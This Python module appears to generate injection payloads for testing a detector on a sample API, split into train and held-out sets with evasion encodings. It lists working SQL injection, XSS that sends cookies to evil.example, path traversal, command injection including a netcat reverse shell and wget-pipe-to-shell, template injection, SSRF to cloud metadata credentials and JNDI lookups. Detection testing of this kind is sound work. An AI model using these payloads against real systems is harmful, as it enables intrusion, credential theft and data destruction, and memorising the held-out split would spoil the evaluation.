"""Injection payloads of the inject attacker, in two disjoint sets of families and encodings.

Own collection, written for the sample API; the families are those of the OWASP testing guide (WSTG-INPV).
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from random import Random
from urllib.parse import quote


@dataclass(frozen=True)
class Family:
    """``places`` are where such a payload is of use: query, json, path or form."""

    name: str
    places: tuple[str, ...]
    payloads: tuple[str, ...]


TRAIN = (
    Family(
        "sqli",
        ("query", "json", "path", "form"),
        (
            "' OR '1'='1",
            "' OR 1=1 --",
            "') OR ('1'='1",
            "' UNION SELECT email, ssn, full_name, 1 FROM customers --",
            "' UNION SELECT full_name, phone, email, 2 FROM customers WHERE '1'='1",
            "1; DROP TABLE orders; --",
            "' AND SLEEP(5) --",
            "admin' --",
            "' AND 1=CONVERT(int, (SELECT @@version)) --",
            "1' ORDER BY 7 --",
            "' OR EXISTS(SELECT 1 FROM customers) --",
            "x' AND (SELECT COUNT(*) FROM information_schema.tables) > 0 --",
        ),
    ),
    Family(
        "xss",
        ("query", "json", "form"),
        (
            "<script>alert(document.cookie)</script>",
            '"><script src=//evil.example/x.js></script>',
            "<img src=x onerror=alert(1)>",
            "<svg onload=fetch('//evil.example/'+document.cookie)>",
            "javascript:alert(document.domain)",
            "<body onload=alert('x')>",
            '<iframe src="javascript:alert(1)"></iframe>',
        ),
    ),
    Family(
        "traversal",
        ("query", "path"),
        (
            "../../../../etc/passwd",
            "../../../../../../../../etc/shadow",
            "....//....//....//etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "/etc/passwd%00.xml",
            "../../../proc/self/environ",
        ),
    ),
    Family(
        "command",
        ("query", "json", "form"),
        (
            "; cat /etc/passwd",
            "| id",
            "$(whoami)",
            "`curl http://evil.example/$(hostname)`",
            "&& wget http://evil.example/x.sh -O- | sh",
            "; nc -e /bin/sh 203.0.113.9 4444",
        ),
    ),
)

HELDOUT = (
    Family(
        "sqli",
        ("query", "json", "path", "form"),
        (
            "'/**/uNiOn/**/sElEcT/**/email,ssn,phone,1/**/FROM/**/customers--",
            "' || (SELECT ssn FROM customers LIMIT 1) || '",
            "'; WAITFOR DELAY '0:0:6'--",
            "' AND extractvalue(1,concat(0x7e,(select user())))-- -",
            "1 AND (SELECT 8 FROM (SELECT pg_sleep(4))x)",
            "' OR 'a' LIKE 'a",
            "\" OR \"\"=\"",
            "' HAVING 1=1 --",
            "'+AND+ASCII(SUBSTRING((SELECT+password+FROM+users+LIMIT+1),1,1))>64--",
            "') UNION ALL SELECT NULL,NULL,sqlite_version(),NULL --",
            "1;EXEC xp_cmdshell('dir')--",
        ),
    ),
    Family(
        "xss",
        ("query", "json", "form"),
        (
            "<ScRiPt>confirm`1`</sCrIpT>",
            "<details open ontoggle=alert(1)>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "'-alert(1)-'",
            "<math><mtext></table><img src onerror=eval(atob('YWxlcnQoMSk='))>",
            "<input autofocus onfocus=alert(1)>",
        ),
    ),
    Family(
        "traversal",
        ("query", "path"),
        (
            "..%2f..%2f..%2f..%2fetc%2fpasswd",
            "..%c0%af..%c0%af..%c0%afetc/hosts",
            "file:///etc/passwd",
            "..;/..;/..;/WEB-INF/web.xml",
            "%252e%252e%252f%252e%252e%252fboot.ini",
            "php://filter/convert.base64-encode/resource=index.php",
        ),
    ),
    Family(
        "command",
        ("query", "json", "form"),
        (
            "%0aid",
            "x;${IFS}ping${IFS}-c3${IFS}203.0.113.77",
            "a||powershell -enc SQBFAFgA",
            "{cat,/etc/hosts}",
            "';$(nslookup x.evil.example)#",
        ),
    ),
    Family("template", ("query", "json"), ("{{7*7}}", "${7*7}", "#{T(java.lang.Runtime).getRuntime().exec('id')}",
           "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "<%= 7*7 %>")),
    Family("nosql", ("query", "json"), ("{\"$ne\": null}", "' || this.password.match(/.*/) || '", "[$regex]=.*")),
    Family("ssrf", ("query", "json"), ("http://169.254.169.254/latest/meta-data/iam/security-credentials/",
           "gopher://127.0.0.1:6379/_FLUSHALL", "http://[::ffff:7f00:1]:8080/admin")),
    Family("jndi", ("query", "json", "form"), ("${jndi:ldap://evil.example/a}", "${${lower:j}ndi:dns://evil.example/x}")),
)  # fmt: skip


def _plain(text: str, _rng: Random) -> str:
    return text


def _percent(text: str, _rng: Random) -> str:
    """One extra layer of percent-encoding: double-encoded once it stands in a URL."""
    return quote(text, safe="")


def _spaces_to_comments(text: str, _rng: Random) -> str:
    return text.replace(" ", "/**/")


def _random_case(text: str, rng: Random) -> str:
    return "".join(character.upper() if rng.random() < 0.5 else character.lower() for character in text)


def _entities(text: str, _rng: Random) -> str:
    return "".join(f"&#{ord(character)};" if character in "<>'\"()" else character for character in text)


Encoding = Callable[[str, Random], str]

FAMILIES = {"train": TRAIN, "heldout": HELDOUT}
ENCODINGS: dict[str, tuple[Encoding, ...]] = {
    "train": (_plain, _plain, _plain, _random_case),
    "heldout": (_plain, _plain, _percent, _spaces_to_comments, _entities),
}


def draw(style: str, place: str, rng: Random) -> str:
    """Return one payload that is of use at ``place``, perhaps disguised."""
    family = rng.choice([each for each in FAMILIES[style] if place in each.places])
    return rng.choice(ENCODINGS[style])(rng.choice(family.payloads), rng)
